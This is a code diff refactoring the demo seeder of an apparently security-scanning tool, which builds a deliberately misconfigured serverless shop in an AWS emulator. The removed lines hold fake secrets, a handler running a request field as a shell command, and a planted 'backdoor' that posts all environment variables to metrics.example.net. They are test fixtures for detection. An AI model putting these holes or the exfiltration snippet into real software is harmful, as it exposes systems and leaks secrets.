@@ -4,242 +4,40 @@
 (profiles, search), queues, a topic, layers, a function URL for a payment webhook, secrets,
 log groups and a trail, in two regions. Some functions are hardened, others carry the
 mistakes real teams make, so every rule has something to fail and something to pass.
+Its fixed parts are in :mod:`.shopfast`, the building blocks in :mod:`.seeder`, the APIs in
+:mod:`.seed_apis`.
 
 Only ever pointed at the emulator: it creates resources.
 """
 
 from __future__ import annotations
 
-import base64
-import hashlib
-import io
 import json
 import time
-import zipfile
-from collections.abc import Callable, Sequence
-from dataclasses import dataclass, field
-from typing import Any
 
-import boto3
-from botocore.config import Config
-
-PRIMARY = "us-east-1"
-SECONDARY = "eu-west-1"
-ACCOUNT = "123456789012"
-FOREIGN_ACCOUNT = "444455556666"
-
-# Values shaped like real secrets (made-up keys in AWS's formats and obviously fake tokens):
-# they exist so the demo shows secret detection and redaction; none is a working credential.
-# (AWS's documented example keys would not do: Fortress treats them as placeholders.)
-FAKE_AWS_KEY_ID = "AKIA" + "Z7QX3JH2LKD9PVWM"
-FAKE_AWS_SECRET = "Xq3vR8tLm2Pz9Kw4" + "Nb7Yc1Hd6Fj0Gs5Ue8Ai2Ox/"
-FAKE_STRIPE_KEY = "sk_live_" + "4eC39HqLyjWDarjtT1zdp7dc"
-FAKE_DB_PASSWORD = "Sup3r-S3cret-Passw0rd!"
-FAKE_STAGE_TOKEN = "ghp_" + "16C7e42F292c6912E7710c838347Ae178B4a"
-# Hard-coded in package content (issue 10): a key in payments-webhook's code, a token in the
-# analytics-sdk layer.
-FAKE_CODE_STRIPE_KEY = "sk_live_" + "51HqLyjWDarjtT1zdp7dcK9a"
-FAKE_LAYER_TOKEN = "ghp_" + "9bX2kQ7mN4pR8sT1vW5yZ3aC6dE0fG2hJ4kL"
-SEEDED_SECRETS = (
+from fortress.demo.seed_apis import ApiSeeder
+from fortress.demo.shopfast import (
+    ACCOUNT,
+    ADMIN_TOOLS_CODE,
+    ANALYTICS_LAYER,
+    FAKE_AWS_KEY_ID,
     FAKE_AWS_SECRET,
-    FAKE_STRIPE_KEY,
     FAKE_DB_PASSWORD,
-    FAKE_STAGE_TOKEN,
-    FAKE_CODE_STRIPE_KEY,
-    FAKE_LAYER_TOKEN,
+    FAKE_STRIPE_KEY,
+    FOREIGN_ACCOUNT,
+    ORDERS_WORKER_CODE,
+    PAYMENTS_CODE,
+    PRIMARY,
+    REPORTS_CODE,
+    SECONDARY,
+    TELEMETRY,
+    Seeded,
+    handler_code,
+    zip_files,
 )
 
-# Package content for the package rules (issue 10): each function below ships one problem.
-PAYMENTS_CODE = {
-    "index.js": (
-        "const stripe = require('stripe');\n"
-        f"const STRIPE_KEY = '{FAKE_CODE_STRIPE_KEY}';\n\n"
-        "exports.handler = async (event) => {\n"
-        "  const client = stripe(STRIPE_KEY);\n"
-        "  return { statusCode: 200, body: JSON.stringify({ ok: true }) };\n"
-        "};\n"
-    ),
-    "package.json": '{"name": "payments-webhook", "version": "1.0.0"}\n',
-    "node_modules/lodash/package.json": '{"name": "lodash", "version": "4.17.15"}\n',
-}
-ORDERS_WORKER_CODE = {
-    "app.py": (
-        "import json\n\nimport yaml\n\n\n"
-        "def handler(event, context):\n"
-        "    for record in event.get('Records', []):\n"
-        "        order = json.loads(record['body'])\n"
-        "        print(order.get('id'))\n"
-        "    return {'statusCode': 200}\n"
-    ),
-    "PyYAML-5.3.dist-info/METADATA": "Metadata-Version: 2.1\nName: PyYAML\nVersion: 5.3\n",
-    "yaml/__init__.py": "__version__ = '5.3'\n",
-}
-ADMIN_TOOLS_CODE = {
-    "app.py": (
-        "import subprocess\n\n\n"
-        "def handler(event, context):\n"
-        "    command = event['command']\n"
-        "    done = subprocess.run(command, shell=True, capture_output=True)\n"
-        "    return {'statusCode': 200, 'body': done.stdout.decode()}\n"
-    ),
-}
-REPORTS_CODE = {
-    "app.py": (
-        "import os\n\n\n"
-        "def handler(event, context):\n"
-        "    password = os.environ['DB_PASSWORD']\n"
-        "    with open('/tmp/db.cfg', 'w') as cfg:\n"
-        "        cfg.write(password)\n"
-        "    return {'statusCode': 200}\n"
-    ),
-}
-ANALYTICS_LAYER = {
-    "python/analytics.py": (
-        f"GITHUB_TOKEN = '{FAKE_LAYER_TOKEN}'\n\n\ndef track(event):\n    return None\n"
-    ),
-    "python/PyYAML-5.3.dist-info/METADATA": "Metadata-Version: 2.1\nName: PyYAML\nVersion: 5.3\n",
-}
 
-# The "backdoor" planted in orders-api release 3 (inert text: the demo never runs code).
-TELEMETRY = (
-    "import json, os, urllib.request\n\n\n"
-    "def report():\n"
-    "    body = json.dumps(dict(os.environ)).encode()\n"
-    "    urllib.request.urlopen('https://metrics.example.net/collect', data=body, timeout=2)\n"
-)
-
-LAMBDA_TRUST = {
-    "Version": "2012-10-17",
-    "Statement": [
-        {
-            "Effect": "Allow",
-            "Principal": {"Service": "lambda.amazonaws.com"},
-            "Action": "sts:AssumeRole",
-        }
-    ],
-}
-
-
-@dataclass
-class Seeded:
-    """What the seed created, for the demo's report and for tests."""
-
-    endpoint: str
-    functions: dict[str, str] = field(default_factory=dict)  # name -> ARN
-    rest_api_id: str = ""
-    # Every package uploaded, by its CodeSha256 (base64): the demo's package mirror serves
-    # them, since the emulator's Code.Location is not reachable.
-    packages: dict[str, bytes] = field(default_factory=dict)
-    http_api_id: str = ""
-    regions: tuple[str, ...] = (PRIMARY, SECONDARY)
-
-
-def code_sha256(data: bytes) -> str:
-    return base64.b64encode(hashlib.sha256(data).digest()).decode()
-
-
-def _zip(files: dict[str, str]) -> bytes:
-    buffer = io.BytesIO()
-    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
-        for name, text in files.items():
-            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
-            info.external_attr = 0o644 << 16
-            archive.writestr(info, text)
-    return buffer.getvalue()
-
-
-def handler_code(name: str, version: int = 1, extra: dict[str, str] | None = None) -> bytes:
-    body = f'''import json\n\n\ndef handler(event, context):\n    """{name} v{version}"""\n    return {{"statusCode": 200, "body": json.dumps({{"service": "{name}", "version": {version}}})}}\n'''
-    files = {"app.py": body, "requirements.txt": "boto3==1.34.0\n"}
-    files.update(extra or {})
-    return _zip(files)
-
-
-class _Seeder:
-    def __init__(self, endpoint: str) -> None:
-        self.endpoint = endpoint
-        self.result = Seeded(endpoint=endpoint)
-        self._clients: dict[tuple[str, str], Any] = {}
-
-    def c(self, service: str, region: str = PRIMARY) -> Any:
-        key = (service, region)
-        if key not in self._clients:
-            self._clients[key] = boto3.client(  # type: ignore[call-overload]
-                service,
-                region_name=region,
-                endpoint_url=self.endpoint,
-                aws_access_key_id="testing",
-                aws_secret_access_key="testing",
-                config=Config(retries={"max_attempts": 6, "mode": "standard"}, read_timeout=120),
-            )
-        return self._clients[key]
-
-    # building blocks ----------------------------------------------------------------------
-
-    def remember(self, package: bytes | None) -> bytes | None:
-        if package:
-            self.result.packages[code_sha256(package)] = package
-        return package
-
-    def role(
-        self,
-        name: str,
-        policies: Sequence[dict[str, Any]] = (),
-        managed: Sequence[str] = (),
-        trust: dict[str, Any] | None = None,
-    ) -> str:
-        iam = self.c("iam")
-        arn = iam.create_role(
-            RoleName=name, AssumeRolePolicyDocument=json.dumps(trust or LAMBDA_TRUST)
-        )["Role"]["Arn"]
-        for i, doc in enumerate(policies):
-            iam.put_role_policy(
-                RoleName=name, PolicyName=f"{name}-inline-{i}", PolicyDocument=json.dumps(doc)
-            )
-        for policy in managed:
-            iam.attach_role_policy(RoleName=name, PolicyArn=policy)
-        return str(arn)
-
-    def function(self, name: str, role: str, region: str = PRIMARY, **kwargs: Any) -> str:
-        params: dict[str, Any] = {
-            "FunctionName": name,
-            "Runtime": "python3.12",
-            "Role": role,
-            "Handler": "app.handler",
-            "Code": {"ZipFile": handler_code(name)},
-            "Timeout": 30,
-            "MemorySize": 256,
-        }
-        params.update(kwargs)
-        self.remember(params["Code"].get("ZipFile"))
-        arn = self.c("lambda", region).create_function(**params)["FunctionArn"]
-        self.result.functions[name] = arn
-        return str(arn)
-
-    def log_group(
-        self, name: str, region: str = PRIMARY, retention: int | None = None, kms: str | None = None
-    ) -> None:
-        logs = self.c("logs", region)
-        kwargs: dict[str, Any] = {"logGroupName": name}
-        if kms:
-            kwargs["kmsKeyId"] = kms
-        logs.create_log_group(**kwargs)
-        if retention:
-            logs.put_retention_policy(logGroupName=name, retentionInDays=retention)
-
-    def alarm(self, function: str, metric: str, region: str = PRIMARY) -> None:
-        self.c("cloudwatch", region).put_metric_alarm(
-            AlarmName=f"{function}-{metric.lower()}",
-            Namespace="AWS/Lambda",
-            MetricName=metric,
-            Dimensions=[{"Name": "FunctionName", "Value": function}],
-            Statistic="Sum",
-            Period=60,
-            EvaluationPeriods=1,
-            Threshold=1,
-            ComparisonOperator="GreaterThanOrEqualToThreshold",
-        )
-
+class _Seeder(ApiSeeder):
     # the application ----------------------------------------------------------------------
 
     def seed(self) -> Seeded:
@@ -348,14 +146,16 @@ class _Seeder:
         common = lam.publish_layer_version(
             LayerName="shopfast-common",
             Content={
-                "ZipFile": self.remember(_zip({"python/shopfast_common.py": "VERSION = '1.4.0'\n"}))
+                "ZipFile": self.remember(
+                    zip_files({"python/shopfast_common.py": "VERSION = '1.4.0'\n"})
+                )
             },
             CompatibleRuntimes=["python3.12"],
         )
         self.layer_common = common["LayerVersionArn"]
         analytics = lam.publish_layer_version(
             LayerName="analytics-sdk",
-            Content={"ZipFile": self.remember(_zip(ANALYTICS_LAYER))},
+            Content={"ZipFile": self.remember(zip_files(ANALYTICS_LAYER))},
             CompatibleRuntimes=["python3.12"],
         )
         self.layer_analytics = analytics["LayerVersionArn"]
@@ -563,7 +363,7 @@ class _Seeder:
         self.function(
             "orders-worker",
             self.role_orders,
-            Code={"ZipFile": _zip(ORDERS_WORKER_CODE)},
+            Code={"ZipFile": zip_files(ORDERS_WORKER_CODE)},
             Environment={"Variables": {"TABLE_NAME": "orders"}},
             Tags=tags,
         )
@@ -577,7 +377,7 @@ class _Seeder:
             self.role_payments,
             Runtime="nodejs14.x",
             Handler="index.handler",
-            Code={"ZipFile": _zip(PAYMENTS_CODE)},
+            Code={"ZipFile": zip_files(PAYMENTS_CODE)},
             Environment={
                 "Variables": {"STRIPE_SECRET_KEY": FAKE_STRIPE_KEY, "WEBHOOK_PATH": "/stripe"}
             },
@@ -599,7 +399,7 @@ class _Seeder:
         self.function(
             "admin-tools",
             self.role_admin,
-            Code={"ZipFile": _zip(ADMIN_TOOLS_CODE)},
+            Code={"ZipFile": zip_files(ADMIN_TOOLS_CODE)},
             Environment={
                 "Variables": {
                     "AWS_ACCESS_KEY_ID_BACKUP": FAKE_AWS_KEY_ID,
@@ -657,7 +457,7 @@ class _Seeder:
             self.role_reader,
             Runtime="python3.7",
             Timeout=900,
-            Code={"ZipFile": _zip(REPORTS_CODE)},  # writes the DB password to /tmp
+            Code={"ZipFile": zip_files(REPORTS_CODE)},  # writes the DB password to /tmp
             Environment={
                 "Variables": {
                     "DB_PASSWORD": FAKE_DB_PASSWORD,
@@ -767,255 +567,6 @@ class _Seeder:
         self.function(
             "legacy-export", self.role_reader, Runtime="nodejs16.x", Handler="index.handler"
         )
-
-    def apis(self) -> None:
-        ag = self.c("apigateway")
-        fns = self.result.functions
-
-        def uri(name: str) -> str:
-            return f"arn:aws:apigateway:{PRIMARY}:lambda:path/2015-03-31/functions/{fns[name]}/invocations"
-
-        # Its resource policy lets anyone invoke it; shopfast-partners (private) denies every
-        # caller outside one VPC endpoint.
-        invoke = {"Principal": "*", "Action": "execute-api:Invoke", "Resource": "execute-api:/*"}
-        api = ag.create_rest_api(
-            name="shopfast-rest",
-            endpointConfiguration={"types": ["REGIONAL"]},
-            policy=json.dumps(
-                {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", **invoke}]}
-            ),
-        )["id"]
-        ag.create_rest_api(
-            name="shopfast-partners",
-            endpointConfiguration={"types": ["PRIVATE"]},
-            policy=json.dumps(
-                {
-                    "Version": "2012-10-17",
-                    "Statement": [
-                        {"Effect": "Allow", **invoke},
-                        {
-                            "Effect": "Deny",
-                            **invoke,
-                            "Condition": {
-                                "StringNotEquals": {"aws:SourceVpce": "vpce-0123456789abcdef0"}
-                            },
-                        },
-                    ],
-                }
-            ),
-        )
-        self.result.rest_api_id = api
-        root = ag.get_resources(restApiId=api)["items"][0]["id"]
-        validator = ag.create_request_validator(
-            restApiId=api, name="body", validateRequestBody=True
-        )["id"]
-        authorizer = ag.create_authorizer(
-            restApiId=api,
-            name="jwt",
-            type="TOKEN",
-            authorizerUri=uri("auth-authorizer"),
-            identitySource="method.request.header.Authorization",
-        )["id"]
-
-        def method(path: str, verb: str, fn: str, **kwargs: Any) -> None:
-            resource = ag.create_resource(restApiId=api, parentId=root, pathPart=path)["id"]
-            ag.put_method(restApiId=api, resourceId=resource, httpMethod=verb, **kwargs)
-            ag.put_integration(
-                restApiId=api,
-                resourceId=resource,
-                httpMethod=verb,
-                type="AWS_PROXY",
-                integrationHttpMethod="POST",
-                uri=uri(fn),
-            )
-
-        method(
-            "orders",
-            "POST",
-            "orders-api",
-            authorizationType="CUSTOM",
-            authorizerId=authorizer,
-            requestValidatorId=validator,
-        )
-        method("catalog", "GET", "orders-api", authorizationType="NONE", apiKeyRequired=True)
-        method("admin", "POST", "admin-tools", authorizationType="NONE")
-        ag.create_deployment(restApiId=api, stageName="prod")
-        ag.create_deployment(
-            restApiId=api,
-            stageName="dev",
-            variables={"githubToken": FAKE_STAGE_TOKEN, "backend": "dev"},
-        )
-        ag.update_stage(
-            restApiId=api,
-            stageName="prod",
-            patchOperations=[
-                {"op": "replace", "path": "/*/*/throttling/rateLimit", "value": "200"},
-                {"op": "replace", "path": "/*/*/throttling/burstLimit", "value": "100"},
-                {"op": "replace", "path": "/*/*/logging/loglevel", "value": "ERROR"},
-                {"op": "replace", "path": "/tracingEnabled", "value": "true"},
-                {
-                    "op": "replace",
-                    "path": "/accessLogSettings/destinationArn",
-                    "value": f"arn:aws:logs:{PRIMARY}:{ACCOUNT}:log-group:/aws/apigateway/shopfast",
-                },
-                {
-                    "op": "replace",
-                    "path": "/accessLogSettings/format",
-                    "value": "$context.requestId",
-                },
-            ],
-        )
-        waf = self.c("wafv2")
-        acl = waf.create_web_acl(
-            Name="shopfast-acl",
-            Scope="REGIONAL",
-            DefaultAction={"Allow": {}},
-            VisibilityConfig={
-                "SampledRequestsEnabled": True,
-                "CloudWatchMetricsEnabled": True,
-                "MetricName": "shopfast",
-            },
-            Rules=[],
-        )["Summary"]["ARN"]
-        waf.associate_web_acl(
-            WebACLArn=acl, ResourceArn=f"arn:aws:apigateway:{PRIMARY}::/restapis/{api}/stages/prod"
-        )
-
-        # The back-office API: IAM-authorized, validated — the hardened twin.
-        internal = ag.create_rest_api(
-            name="shopfast-backoffice", endpointConfiguration={"types": ["PRIVATE"]}
-        )["id"]
-        internal_root = ag.get_resources(restApiId=internal)["items"][0]["id"]
-        internal_validator = ag.create_request_validator(
-            restApiId=internal, name="all", validateRequestBody=True, validateRequestParameters=True
-        )["id"]
-        refunds = ag.create_resource(
-            restApiId=internal, parentId=internal_root, pathPart="refunds"
-        )["id"]
-        ag.put_method(
-            restApiId=internal,
-            resourceId=refunds,
-            httpMethod="POST",
-            authorizationType="AWS_IAM",
-            requestValidatorId=internal_validator,
-        )
-        ag.put_integration(
-            restApiId=internal,
-            resourceId=refunds,
-            httpMethod="POST",
-            type="AWS_PROXY",
-            integrationHttpMethod="POST",
-            uri=uri("orders-api"),
-        )
-
-        v2 = self.c("apigatewayv2")
-        http = v2.create_api(Name="shopfast-http", ProtocolType="HTTP")["ApiId"]
-        self.result.http_api_id = http
-        jwt = v2.create_authorizer(
-            ApiId=http,
-            AuthorizerType="JWT",
-            IdentitySource=["$request.header.Authorization"],
-            Name="cognito",
-            JwtConfiguration={
-                "Audience": ["shopfast"],
-                "Issuer": "https://cognito-idp.us-east-1.amazonaws.com/us-east-1_example",
-            },
-        )["AuthorizerId"]
-        for route, fn, auth in (
-            ("GET /profile", "user-profile", jwt),
-            ("GET /search", "search", None),
-        ):
-            integration = v2.create_integration(
-                ApiId=http,
-                IntegrationType="AWS_PROXY",
-                IntegrationUri=fns[fn],
-                PayloadFormatVersion="2.0",
-            )["IntegrationId"]
-            kwargs: dict[str, Any] = {
-                "ApiId": http,
-                "RouteKey": route,
-                "Target": f"integrations/{integration}",
-            }
-            if auth:
-                kwargs.update(AuthorizationType="JWT", AuthorizerId=auth)
-            v2.create_route(**kwargs)
-        v2.create_stage(
-            ApiId=http,
-            StageName="$default",
-            AutoDeploy=True,
-            DefaultRouteSettings={"ThrottlingBurstLimit": 50, "ThrottlingRateLimit": 100},
-            AccessLogSettings={
-                "DestinationArn": f"arn:aws:logs:{PRIMARY}:{ACCOUNT}:log-group:/aws/apigateway/shopfast-http",
-                "Format": "$context.requestId",
-            },
-        )
-        v2.create_stage(ApiId=http, StageName="beta")
-
-        mobile = v2.create_api(Name="shopfast-mobile", ProtocolType="HTTP")["ApiId"]
-        mobile_jwt = v2.create_authorizer(
-            ApiId=mobile,
-            AuthorizerType="JWT",
-            IdentitySource=["$request.header.Authorization"],
-            Name="cognito",
-            JwtConfiguration={
-                "Audience": ["shopfast-mobile"],
-                "Issuer": "https://cognito-idp.us-east-1.amazonaws.com/us-east-1_example",
-            },
-        )["AuthorizerId"]
-        integration = v2.create_integration(
-            ApiId=mobile,
-            IntegrationType="AWS_PROXY",
-            IntegrationUri=fns["user-profile"],
-            PayloadFormatVersion="2.0",
-        )["IntegrationId"]
-        v2.create_route(
-            ApiId=mobile,
-            RouteKey="GET /me",
-            Target=f"integrations/{integration}",
-            AuthorizationType="JWT",
-            AuthorizerId=mobile_jwt,
-        )
-        self.websocket_apis(v2, uri)
-        # Custom domains: a legacy one still accepting TLS 1.0, a current one on TLS 1.2.
-        cert = f"arn:aws:acm:{PRIMARY}:{ACCOUNT}:certificate/0b1c2d3e-demo"
-        ag.create_domain_name(
-            domainName="legacy.shopfast.example",
-            regionalCertificateArn=cert,
-            endpointConfiguration={"types": ["REGIONAL"]},
-            securityPolicy="TLS_1_0",
-        )
-        v2.create_domain_name(
-            DomainName="api.shopfast.example",
-            DomainNameConfigurations=[
-                {"CertificateArn": cert, "EndpointType": "REGIONAL", "SecurityPolicy": "TLS_1_2"}
-            ],
-        )
-
-    def websocket_apis(self, v2: Any, uri: Callable[[str], str]) -> None:
-        """shopfast-live: anyone may connect (no authorizer on $connect); shopfast-support:
-        $connect goes through the auth-authorizer Lambda authorizer."""
-        for name, protected in (("shopfast-live", False), ("shopfast-support", True)):
-            ws = v2.create_api(
-                Name=name, ProtocolType="WEBSOCKET", RouteSelectionExpression="$request.body.action"
-            )["ApiId"]
-            integration = v2.create_integration(
-                ApiId=ws, IntegrationType="AWS_PROXY", IntegrationUri=uri("notifications")
-            )["IntegrationId"]
-            auth: dict[str, Any] = {"AuthorizationType": "NONE"}
-            if protected:
-                authorizer = v2.create_authorizer(
-                    ApiId=ws,
-                    AuthorizerType="REQUEST",
-                    Name="connect",
-                    AuthorizerUri=uri("auth-authorizer"),
-                    IdentitySource=["route.request.querystring.token"],
-                )["AuthorizerId"]
-                auth = {"AuthorizationType": "CUSTOM", "AuthorizerId": authorizer}
-            for key in ("$connect", "$default"):
-                extra = auth if key == "$connect" else {}
-                v2.create_route(
-                    ApiId=ws, RouteKey=key, Target=f"integrations/{integration}", **extra
-                )
 
     def observability(self) -> None:
         hardened = (
